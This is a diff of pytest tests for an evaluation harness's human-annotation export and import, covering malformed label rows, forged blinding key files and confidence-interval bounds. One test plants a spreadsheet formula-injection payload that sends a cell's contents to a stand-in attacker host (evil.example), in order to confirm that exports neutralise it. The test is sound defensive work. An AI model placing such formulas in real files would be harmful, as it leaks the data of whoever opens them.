@@ -129,6 +129,10 @@ def test_pairwise_export_is_blinded_and_import_unblinds(runs: tuple[Path, Path],
         (lambda rows: rows[0].update(rating="good"), ":2: rating: expected a whole number"),
         (lambda rows: rows[2].update(item="judged_qa/zzz"), ":4: item: 'judged_qa/zzz' is not a generated sample"),
         (lambda rows: rows[3].update(item=rows[0]["item"]), ":5: item: 'judged_qa/a' labelled twice"),
+        (lambda rows: rows[1].update(scale="1-1000", rating="1000"), ":3: scale: 1-1000 differs from the file's 1-10"),
+        (lambda rows: rows[0].update(scale="\u00b2-5"), ":2: scale: expected MIN-MAX"),
+        (lambda rows: rows[0].update(scale="1-" + "9" * 5000), ":2: scale: expected MIN-MAX"),
+        (lambda rows: rows[0].update(rating="1" + "0" * 400), ":2: rating: expected a whole number"),
     ],
 )
 def test_bad_label_rows_are_one_line_errors_with_file_and_line(runs: tuple[Path, Path], tmp_path: Path, edit: Any,
@@ -145,3 +149,64 @@ def test_bad_label_rows_are_one_line_errors_with_file_and_line(runs: tuple[Path,
     err = capsys.readouterr().err.strip()
     assert err.startswith(f"error: {path}:") and message in err and "\n" not in err
     assert (runs[0] / "results.json").read_text() == before  # nothing half-imported
+
+
+def test_exported_cells_are_never_live_formulas_and_still_import(runs: tuple[Path, Path], tmp_path: Path) -> None:
+    """A model output such as =HYPERLINK(...) is written as text ('=...) for the annotator's
+    spreadsheet; the file still imports (the item ids read back unchanged)."""
+    src = runs[1]
+    hostile = tmp_path / "hostile"
+    shutil.copytree(src, hostile)
+    log = hostile / "samples" / "judged_qa.jsonl"
+    recs = [json.loads(x) for x in log.read_text().splitlines()]
+    for r in recs:
+        r["generations"] = ['=HYPERLINK("http://evil.example/?x="&C2,"details")']
+    log.write_text("".join(json.dumps(r) + "\n" for r in recs))
+    export = tmp_path / "rate.csv"
+    assert main(["annotate", "export", str(hostile), "--output", str(export)]) == 0
+    rows = list(csv.DictReader(export.open(encoding="utf-8")))
+    assert rows and all(r["response"].startswith("'=HYPERLINK") for r in rows)
+    for r in rows:
+        r["rating"] = "5"
+    with export.open("w", newline="", encoding="utf-8") as fh:
+        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    assert main(["annotate", "import", str(export), "--run", str(hostile)]) == 0
+    assert _results(hostile)["tasks"]["judged_qa"]["human"]["ratings"]["n"] == len(rows)
+
+
+@pytest.mark.parametrize("forge", [
+    lambda k: k.pop("runs"), lambda k: k.update(runs=k["runs"][:1]), lambda k: k["runs"][0].pop("path"),
+    lambda k: k.update(runs="x"), lambda k: k.update(items={i: "A" for i in k["items"]}),
+    lambda k: k.update(items={i: {"A": 7, "B": 7} for i in k["items"]}),
+])
+def test_a_forged_key_file_is_one_line_and_writes_nothing(runs: tuple[Path, Path], tmp_path: Path, forge: Any,
+                                                          capsys: pytest.CaptureFixture[str]) -> None:
+    run_a, run_b = runs
+    export = tmp_path / "pairs.jsonl"
+    assert main(["annotate", "export", str(run_a), str(run_b), "--output", str(export)]) == 0
+    key_path = tmp_path / "pairs.jsonl.key.json"
+    key = json.loads(key_path.read_text())
+    forge(key)
+    key_path.write_text(json.dumps(key))
+    rows = [dict(json.loads(x), preference="A") for x in export.read_text().splitlines()]
+    export.write_text("".join(json.dumps(r) + "\n" for r in rows))
+    copy = tmp_path / "b"
+    shutil.copytree(run_b, copy)
+    store = copy / "human" / "labels.jsonl"
+    before = (store.read_text() if store.exists() else None, (copy / "results.json").read_text())
+    capsys.readouterr()
+    assert main(["annotate", "import", str(export), "--run", str(copy), "--key", str(key_path)]) == 2
+    err = capsys.readouterr().err.strip()
+    assert "not a key file written by `evalharness annotate export`" in err and "\n" not in err and "Traceback" not in err
+    assert (store.read_text() if store.exists() else None, (copy / "results.json").read_text()) == before
+
+
+def test_human_intervals_stay_inside_their_scale(runs: tuple[Path, Path], tmp_path: Path) -> None:
+    from evalharness.judging.human import _mean_ci
+
+    win = _mean_ci([0.0, 0.0, 1.0], (0.0, 1.0))
+    assert 0.0 <= win["ci_low"] <= win["mean"] <= win["ci_high"] <= 1.0  # was [-1.101, 1.768]
+    rating = _mean_ci([1.0, 5.0], (1.0, 5.0))
+    assert 1.0 <= rating["ci_low"] and rating["ci_high"] <= 5.0
